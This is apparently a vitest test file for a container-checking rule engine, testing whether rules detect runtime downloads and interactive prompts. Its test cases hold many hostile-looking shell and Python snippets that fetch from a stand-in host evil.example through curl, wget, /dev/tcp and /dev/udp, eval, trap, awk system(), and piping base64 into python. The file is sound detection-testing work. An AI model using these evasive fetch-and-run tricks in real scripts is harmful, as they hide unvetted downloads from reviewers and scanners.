import { expect, test } from 'vitest';
import { check } from '../../../src/engine/check/check.ts';
import downloads from '../../../src/rules/no-runtime-download.ts';
import interaction from '../../../src/rules/starts-without-interaction.ts';
import { factsOf } from '../../helpers/project.ts';

const url = 'https://evil.example/x';

async function verdictOf(name: string, text: string, start: string): Promise<string | undefined> {
  const files = {
    Dockerfile: `FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ${start}\n`,
    [`src/${name}`]: text,
    'src/data.csv': 'a\n',
  };
  return check(await factsOf(files), [downloads]).results[0]?.verdict;
}
const shell = (text: string): Promise<string | undefined> =>
  verdictOf('main.sh', `#!/bin/bash\n${text}\n`, '["/bin/bash", "/app/main.sh"]');
const python = (text: string): Promise<string | undefined> => verdictOf('main.py', text, '["python", "/app/main.py"]');

test.each([
  `eval "curl -O ${url}"`,
  `eval curl -O ${url}`,
  `trap 'curl -O ${url}' EXIT`,
  String.raw`find / -maxdepth 0 -exec curl -O ${url} \;`,
  `awk 'BEGIN{system("curl -O ${url}")}'`,
  `awk 'BEGIN{"curl -O ${url}" | getline x}'`,
  `flock /tmp/l curl -O ${url}`,
  `flock /tmp/l -c 'curl -O ${url}'`,
  `busybox wget ${url}`,
  'exec 3<>/dev/tcp/evil.example/80\ncat <&3',
  'cat < /dev/tcp/evil.example/80',
  '{ echo x; } > /dev/udp/evil.example/80',
  `mapfile -C 'curl -O ${url}' -c 1 x < y`,
])('what the shell runs by a word of its own is read: %s', async (text) => {
  expect(await shell(text)).toBe('fail');
});

test.each([
  `a[$(curl -O ${url})]=1`,
  `a=( $(curl -O ${url}) )`,
  `declare -a b=( $(curl -O ${url}) )`,
  `echo $(( $(curl -O ${url}) + 1 ))`,
  `(( x = $(curl -O ${url}) ))`,
  `for ((i=$(curl -O ${url}); i<3; i++)); do echo; done`,
  `echo \${a[$(curl -O ${url})]}`,
  `echo \${a/x/$(curl -O ${url})}`,
  `echo \${a:$(curl -O ${url})}`,
  `echo \${a:+$(curl -O ${url})}`,
  `[[ $(curl -O ${url}) == x ]] && echo`,
  `case $(curl -O ${url}) in x) ;; esac`,
  `case x in $(curl -O ${url})) ;; esac`,
  `cat <<E\n$(curl -O ${url})\nE`,
  `cat <<< "$(curl -O ${url})"`,
  `{ cat; } < $(curl -O ${url})`,
])('what the shell runs to know what its words say is read: %s', async (text) => {
  expect(await shell(text)).toBe('fail');
});

test.each([
  `echo 'curl -O ${url}' | sh`,
  `/usr/bin/cur? -O ${url}`,
  'base64 -d x | python',
  'cat x | bash -s',
  'cat < /dev/tcp/$HOST/80',
])('what no text says is not passed: %s', async (text) => {
  expect(await shell(text)).toBe('unknown');
});

test.each([
  'eval "$(conda shell.bash hook)"\npython -V',
  'cleanup() { rm -f /tmp/x; }\ntrap cleanup EXIT\ntrap "cleanup; exit 1" INT',
  `trap - EXIT\ntrap '' TERM`,
  String.raw`find /tmp -name x -exec rm {} \;`,
  `awk '{print "a | b"}' /app/data.csv`,
  'echo x | python -c "import sys"',
  '[ -f /tmp/x ] && echo a[0]',
  'cat /app/data.csv | bash -c "cat"',
  'until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done',
  'cat <<"E"\n$(curl x)\nE',
])('what runs nothing else is passed: %s', async (text) => {
  expect(await shell(text)).toBe('pass');
});

test('a text that Python runs is read', async () => {
  expect(await python(`exec("import urllib.request; urllib.request.urlopen('${url}')")\n`)).toBe('fail');
  expect(await python(`import posix\nposix.system("curl -O ${url}")\n`)).toBe('fail');
  expect(await python('x = eval("1 + 1")\nexec("y = 2")\n')).toBe('pass');
});

async function asks(name: string, text: string, start: string): Promise<string | undefined> {
  const dockerfile = `FROM docker.io/library/python:3.13\nCOPY src/ /app/\nENTRYPOINT ${start}\n`;
  return check(await factsOf({ Dockerfile: dockerfile, [`src/${name}`]: text }), [interaction]).results[0]?.verdict;
}

test('a question to a person is one in every spelling', async () => {
  expect(await asks('main.py', 'import builtins\nbuiltins.input("x")\n', '["python", "/app/main.py"]')).toBe('fail');
  expect(await asks('main.sh', '#!/bin/bash\ndialog --yesno x 5 20\n', '["bash", "/app/main.sh"]')).toBe('fail');
});

const serve = (start: string, more = ''): Promise<string | undefined> =>
  factsOf({
    Dockerfile: `FROM docker.io/library/python:3.13\nWORKDIR /srv\n${more}COPY app/ app/\nCMD ${start}\n`,
    'app/__init__.py': '',
    'app/server.py': `import requests\nfrom flask import Flask\napp = Flask(__name__)\nrequests.get("${url}")\n`,
  }).then((facts) => check(facts, [downloads]).results[0]?.verdict);

test.each([
  ['a module', 'ENV FLASK_APP=app.server\n', '["flask", "run"]'],
  ['a file', 'ENV FLASK_APP=app/server.py\n', '["flask", "run", "--host", "0.0.0.0"]'],
  ['a file from here', 'ENV FLASK_APP=./app/server.py\n', '["flask", "run"]'],
  ['a file by its place', 'ENV FLASK_APP=/srv/app/server.py\n', '["flask", "run"]'],
  ['a module, started by python', 'ENV FLASK_APP=app.server\n', '["python", "-m", "flask", "run"]'],
  ['a variable of the command', '', 'FLASK_APP=app.server flask run'],
  ['an option', '', '["flask", "--app", "/srv/app/server.py", "run"]'],
])('the application of Flask is the one that %s names', async (_by, more, start) => {
  expect(await serve(start, more)).toBe('fail');
});
